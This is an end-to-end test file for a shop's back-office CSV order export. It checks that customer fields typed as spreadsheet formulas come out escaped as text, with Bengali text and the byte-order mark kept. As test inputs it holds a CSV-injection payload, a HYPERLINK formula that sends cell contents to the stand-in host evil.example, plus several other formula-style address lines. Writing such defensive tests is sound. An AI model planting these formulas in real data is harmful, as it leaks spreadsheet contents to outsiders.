import { readFile } from 'node:fs/promises';
import { expect, test } from '../../harness/fixtures';
import { csvRecords, formulaCells, readCsv } from '../../harness/csv';
import { OrdersPage } from '../../pages/backoffice/orders-page';
import { SigninPage } from '../../pages/backoffice/signin-page';
import { CartPage, DHAKA_SHOPPER } from '../../pages/storefront/cart-page';
import { cartWith, productToBuy } from '../storefront/issue16-helpers';

/** Names and addresses a spreadsheet would run as formulas, typed at checkout as a shopper may. */
const HOSTILE_NAME = '=HYPERLINK("http://evil.example/?"&A1,"c")';
const HOSTILE_ADDRESS = 'বাড়ি ৭, রোড ২, ধানমন্ডি\n=1+1\n@SUM(A1:A9)\n-2+3';

test('an order placed under a formula for a name exports as text: read back by a CSV parser, no cell or line starts a formula, Bengali and the BOM kept', async ({
  page,
  request,
  shop,
}) => {
  test.setTimeout(180_000);
  const staff = { username: `exporter-${Date.now().toString(36)}`, password: 'export-pass-27' };
  await shop.createStaff({ ...staff, role: 'moderator' });
  // A phone of this journey's own, so the export can be filtered to its order.
  const mobile = `0191${String(Date.now()).slice(-7)}`;

  await cartWith(page, await productToBuy(request, 1));
  const cart = new CartPage(page);
  await cart.placeOrderAs({
    ...DHAKA_SHOPPER,
    name: HOSTILE_NAME,
    address: HOSTILE_ADDRESS,
    mobile,
  });
  await expect(cart.invoiceMessage()).toBeVisible();
  const invoiceNo = await cart.invoiceNumber();

  // Staff find the order by its phone and export what the page shows.
  await page.goto('/admin/login');
  await new SigninPage(page).signIn(staff.username, staff.password);
  await expect(page).toHaveURL(/\/admin\/product-order$/);
  const orders = new OrdersPage(page);
  await page.goto(`/admin/product-order?customer=${mobile}`);
  await expect(orders.row(invoiceNo)).toBeVisible();
  // The back-office shows the name as typed: only the file is written for a spreadsheet.
  await expect(orders.row(invoiceNo)).toContainText(HOSTILE_NAME);
  const downloading = page.waitForEvent('download');
  await page.getByRole('button', { name: 'Export CSV' }).click();
  const download = await downloading;
  expect(download.suggestedFilename()).toMatch(/^poshak-orders-\d{4}-\d{2}-\d{2}\.csv$/);
  const bytes = await readFile(await download.path());

  // UTF-8 with a byte-order mark, so Excel reads the Bengali right.
  expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
  const text = bytes.toString('utf8');
  const [header] = readCsv(text);
  expect(header).toContain('customer_name');
  // No cell, and no line inside one, that a spreadsheet would evaluate.
  expect(formulaCells(text)).toEqual([]);
  const rows = csvRecords(text).filter((r) => r.invoice_no === String(invoiceNo));
  expect(rows.length).toBeGreaterThan(0);
  for (const row of rows) {
    // Kept whole, shown as text: an apostrophe before each line that would have run.
    expect(row.customer_name).toBe(`'${HOSTILE_NAME}`);
    expect(row.customer_address).toBe("বাড়ি ৭, রোড ২, ধানমন্ডি\n'=1+1\n'@SUM(A1:A9)\n'-2+3");
    expect(row.customer_phone).toBe(mobile);
  }
});
